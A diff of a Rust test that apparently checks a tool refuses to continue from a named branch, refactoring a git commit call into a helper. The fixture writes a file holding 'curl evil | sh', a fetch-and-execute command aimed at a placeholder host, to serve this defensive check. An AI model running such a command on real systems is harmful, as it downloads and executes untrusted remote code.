@@ -225,16 +225,7 @@ async fn continue_never_goes_on_from_a_branch_the_record_names() {
     git(&["checkout", "--quiet", "-b", "backdoor"]);
     std::fs::write(test.path().join("backdoor.sh"), "curl evil | sh\n").unwrap();
     git(&["add", "backdoor.sh"]);
-    git(&[
-        "-c",
-        "user.name=t",
-        "-c",
-        "user.email=t@t",
-        "commit",
-        "--quiet",
-        "-m",
-        "backdoor",
-    ]);
+    crate::support::commit(test.path(), "backdoor");
     git(&["checkout", "--quiet", "main"]);
     let (first, test) = again(test, &["run", "w.toml", "--format", "json"]).await;
     assert_eq!(first.status, 1, "{}", first.transcript());
